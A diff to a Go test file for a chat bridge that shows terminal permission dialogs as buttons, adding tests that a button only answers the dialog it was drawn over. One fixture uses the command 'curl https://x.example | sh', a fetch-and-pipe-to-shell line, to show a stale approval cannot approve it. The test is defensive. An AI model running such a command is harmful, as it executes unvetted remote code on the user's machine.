@@ -3,6 +3,7 @@ package router
 import (
 	"context"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -52,12 +53,73 @@ func TestScreenButtonsAreBoundAndExpire(t *testing.T) {
 	if got := l.all()[n+1:]; len(got) != 2 || got[0] != "defer-update" || !strings.HasPrefix(got[1], "edit ```") {
 		t.Fatalf("refresh did %q", got)
 	}
-	// Buttons of the old format (no drawing time) press nothing.
-	old, _ := chat.ID{Instance: "inst1", Kind: "key", Args: []string{key, "1"}}.Encode()
+	// Buttons of the old formats (no drawing time, no dialog) press nothing.
+	for _, args := range [][]string{{key, "1"}, {key, "1", strconv.FormatInt(now.Unix(), 36)}} {
+		old, _ := chat.ID{Instance: "inst1", Kind: "key", Args: args}.Encode()
+		n = len(l.all())
+		click(r, l, thread, old)
+		if got := l.all()[n:]; len(got) != 1 || !strings.Contains(got[0], "older ccbridge") {
+			t.Fatalf("old button %q did %q", args, got)
+		}
+	}
+}
+
+// drawn records what a command or click drew last.
+type drawn struct {
+	fakeResponder
+	reply *chat.Reply
+}
+
+func (d drawn) Edit(r chat.Reply) error { *d.reply = r; return d.fakeResponder.Edit(r) }
+
+// buttonID finds a drawn button by its label.
+func buttonID(t *testing.T, r chat.Reply, label string) string {
+	t.Helper()
+	for _, row := range r.Rows {
+		for _, b := range row.Buttons {
+			if b.Label == label {
+				return b.CustomID
+			}
+		}
+	}
+	t.Fatalf("no button %q in %+v", label, r)
+	return ""
+}
+
+// A /screen key answers only the dialog it was drawn over: drawn over
+// "ls", it presses nothing once "curl | sh" has replaced that dialog (the
+// first was answered in the terminal), and the message is redrawn with
+// the new dialog and buttons bound to it.
+func TestScreenKeysAreBoundToTheDialogShown(t *testing.T) {
+	r, ss, _, l, _ := newRouter(t)
+	rule := strings.Repeat("─", 40)
+	dialog := func(cmd string) string {
+		return "● Running…\n" + rule + "\n Bash command\n   " + cmd + "\n Do you want to proceed?\n ❯ 1. Yes\n   2. No\n Esc to cancel · Tab to amend"
+	}
+	ss.screens = []string{dialog("ls")}
+	var shown chat.Reply
+	r.HandleCommand(chat.CommandEvent{Server: "home", ChannelID: channel, User: chat.User{ID: owner}, Name: "screen"}, drawn{fakeResponder{l}, &shown})
+	yes := buttonID(t, shown, "1")
+
+	ss.mu.Lock()
+	ss.screens = []string{dialog("curl https://x.example | sh")}
+	ss.mu.Unlock()
+	n := len(l.all())
+	var redrawn chat.Reply
+	r.HandleComponent(chat.ComponentEvent{Server: "home", ChannelID: channel, User: chat.User{ID: owner}, CustomID: yes}, drawn{fakeResponder{l}, &redrawn})
+	got := l.all()[n:]
+	if slices.ContainsFunc(got, func(op string) bool { return strings.HasPrefix(op, "keys") }) {
+		t.Fatalf("a key meant for one dialog answered another: %q", got)
+	}
+	if !strings.HasPrefix(redrawn.Content, screenChanged) || !strings.Contains(redrawn.Content, "curl https://x.example | sh") {
+		t.Fatalf("redrawn as %q", redrawn.Content)
+	}
+
+	// The redrawn buttons press into the dialog they show.
 	n = len(l.all())
-	click(r, l, thread, old)
-	if got := l.all()[n:]; len(got) != 1 || !strings.Contains(got[0], "older ccbridge") {
-		t.Fatalf("old button did %q", got)
+	r.HandleComponent(chat.ComponentEvent{Server: "home", ChannelID: channel, User: chat.User{ID: owner}, CustomID: buttonID(t, redrawn, "2")}, fakeResponder{l})
+	if got := l.all()[n:]; len(got) < 2 || got[1] != "keys home-api 2" {
+		t.Fatalf("a key over the dialog shown did %q", got)
 	}
 }
 
@@ -65,7 +127,7 @@ func TestScreenButtonsAreBoundAndExpire(t *testing.T) {
 // hashed, so /screen keeps its buttons and they still work.
 func TestScreenButtonsOfLongNames(t *testing.T) {
 	key := session.ThreadKey(strings.Repeat("s", 64), strings.Repeat("p", 64), thread)
-	rows := screenRows("a1b2c3d4e5", key, time.Now())
+	rows := screenRows("a1b2c3d4e5", key, dialogHash(""), time.Now())
 	if len(rows) != 3 {
 		t.Fatalf("%d rows", len(rows))
 	}
@@ -318,5 +380,14 @@ func TestFinishArchivedThreadsLeavesOthersAlone(t *testing.T) {
 	r.waitClosed(t)
 	if slices.ContainsFunc(l.all(), func(op string) bool { return strings.HasPrefix(op, "stop") }) {
 		t.Fatalf("a live thread was stopped: %q", l.all())
+	}
+}
+
+// A redraw with its note still fits one message.
+func TestScreenWithANoteFits(t *testing.T) {
+	screen := strings.Repeat(strings.Repeat("x", 99)+"\n", 19)
+	reply := screenReply("inst1", "home-api", screenChanged, screen, time.Now())
+	if n := len([]rune(reply.Content)); n > chat.Limit || !strings.HasPrefix(reply.Content, screenChanged+"\n```\n…") {
+		t.Fatalf("%d characters: %q", n, reply.Content[:200])
 	}
 }
